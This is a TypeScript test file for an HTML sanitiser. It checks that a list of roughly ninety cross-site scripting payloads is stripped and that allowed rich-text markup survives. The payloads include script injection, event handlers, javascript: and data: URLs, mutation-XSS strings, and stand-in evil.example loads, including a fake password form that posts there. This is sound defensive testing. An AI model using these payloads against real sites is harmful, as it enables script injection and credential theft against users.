import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { RICH_TEXT_TAGS } from "#domain/page/rich-text.ts";
import { sanitiseHtml } from "./sanitise-html.ts";

/** Strings that once ran script, loaded something or broke out, and variants of them. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/xss src=https://evil.example/x.js></script>",
  "<<script>alert(1);//<</script>",
  "<script>alert(1)",
  "</script><script>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img/src=`x`onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" ',
  '<img """><script>alert(1)</script>">',
  "<img src=javascript:alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href=https://evil.example/>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>body{display:none}</style>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<div style=width:expression(alert(1))>x</div>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='jAvAsCrIpT:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
  "<a href='javascript&#0000058alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/\\evil.example'>x</a>",
  "<a href='https://user@evil.example'>x</a>",
  "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
  "<a href='https://example.com' id=root name=body class='fixed inset-0'>x</a>",
  "<a href='https://example.com' ping='https://evil.example'>x</a>",
  "<p onclick=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>",
  "<p ONCLICK='alert(1)'>x</p>",
  "<p\u000Conclick=alert(1)>x</p>",
  "<p/onclick=alert(1)>x</p>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video>",
  "<video src=x poster=javascript:alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<input autofocus onfocus=alert(1)>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<select onfocus=alert(1) autofocus><option>x</select>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!DOCTYPE html><script>alert(1)</script>",
  "<x-custom onclick=alert(1)>x</x-custom>",
  "<p title='\"><script>alert(1)</script>'>x</p>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
  "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

const ALLOWED_TAG = new RegExp(`^</?(?:${RICH_TEXT_TAGS.join("|")})(?=[\\s/>])`);
const LINK =
  /^<a href="(https?:\/\/|mailto:|tel:|#|\/(?!\/))[^"\\]*" rel="noopener noreferrer"( target="_blank")?>$/;
const CELL = /^<(th|td|ol)( (colspan|rowspan|start|type|scope)="[^"<>]*")*>$/;

/** Every remaining tag is a known one without attributes, a safe link or a table cell. */
function expectHarmless(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    expect(tag).toMatch(ALLOWED_TAG);
    if (!/^<\/?[a-z0-9]+ ?\/?>$/.test(tag)) expect(LINK.test(tag) || CELL.test(tag), tag).toBe(true);
  }
}

describe("BLOCK-18 what can act does not stay", () => {
  test.each(ATTACKS)("%s", (attack) => {
    expectHarmless(sanitiseHtml(attack));
    expectHarmless(sanitiseHtml(`<p>before ${attack} after</p>`));
    expectHarmless(sanitiseHtml(`<a href="https://example.com">${attack}</a>`));
  });

  test("nor any mixture of these strings", () => {
    const pieces = fc.array(
      fc.oneof(fc.constantFrom(...ATTACKS), fc.string(), fc.constantFrom("<", ">", '"', "'", "<!--")),
    );
    fc.assert(fc.property(pieces, (parts) => expectHarmless(sanitiseHtml(parts.join("")))));
  });

  test("nor the text of a script or a style", () => {
    expect(sanitiseHtml("a<script>alert(1)</script><style>p{}</style><svg><text>x</text></svg>b")).toBe("ab");
  });
});

describe("BLOCK-18 what a document needs stays", () => {
  test.each([
    "<p>One<br />two</p>",
    "<h2>A</h2><h3>B</h3><h4>C</h4>",
    "<strong>a</strong><em>b</em><u>c</u><s>d</s><sub>e</sub><sup>f</sup>",
    '<ul><li>a</li></ul><ol start="3" type="a"><li>b</li></ol>',
    "<blockquote>a</blockquote><pre><code>b</code></pre><hr />",
    '<table><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td rowspan="2">b</td></tr></tbody></table>',
    '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">a</a>',
    "5 &lt; 6 &amp; 7 &gt; 6",
    "Zoë &amp; “Söhne” — 日本語",
  ])("%s", (html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });

  test("a link that opens in a new tab keeps doing so, without access to ours", () => {
    expect(sanitiseHtml('<a href="/a" target="_blank" rel="opener">a</a>')).toBe(
      '<a href="/a" rel="noopener noreferrer" target="_blank">a</a>',
    );
  });

  test("a tag that is not known goes, its text stays", () => {
    expect(sanitiseHtml("<div><font color=red>a</font><h1>b</h1></div>")).toBe("ab");
  });
});

test("BLOCK-18 sanitising twice changes nothing more", () => {
  for (const attack of ATTACKS) {
    const once = sanitiseHtml(attack);
    expect(sanitiseHtml(once)).toBe(once);
  }
});

test("BLOCK-18 tags nested without end are cut off, and do not stop the server", () => {
  expectHarmless(sanitiseHtml("<ul><li>".repeat(20_000)));
  expectHarmless(sanitiseHtml("<p".repeat(50_000)));
});
